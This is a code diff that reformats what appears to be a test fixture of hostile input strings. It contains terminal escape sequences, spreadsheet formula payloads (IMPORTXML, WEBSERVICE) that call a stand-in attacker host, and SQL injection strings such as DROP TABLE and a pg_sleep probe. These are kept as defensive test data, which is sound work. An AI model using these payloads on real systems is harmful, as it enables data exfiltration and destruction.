@@ -116,7 +116,9 @@ _INVISIBLE = (
 )
 _ANSI = tuple(
     f"\u241b{code}" if n % 2 else f"[{code} \\x1b[{code} \\033[{code}"
-    for n, code in enumerate(("2J", "31m", "1;1H", "?25l", "0K", "8m", "]0;title", "]8;;http://evil.example", "c", "?47h"))
+    for n, code in enumerate(
+        ("2J", "31m", "1;1H", "?25l", "0K", "8m", "]0;title", "]8;;http://evil.example", "c", "?47h")
+    )
 )
 _FORMULAS = tuple(
     f"{sign}{body}"
@@ -128,7 +130,7 @@ _FORMULAS = tuple(
             "1+1",
             "SUM(1:1048576)",
             'IMPORTXML("//evil.example","//a")',
-            "WEBSERVICE(\"//evil.example\")",
+            'WEBSERVICE("//evil.example")',
         ),
     )
 )
@@ -148,7 +150,7 @@ _LONG = (
 )
 _MACHINES = (
     "'; DROP TABLE tickets; --",
-    "\" OR \"\"=\"",
+    '" OR ""="',
     "1; SELECT pg_sleep(9)",
     "%' ESCAPE '",
     "_%_%_%",
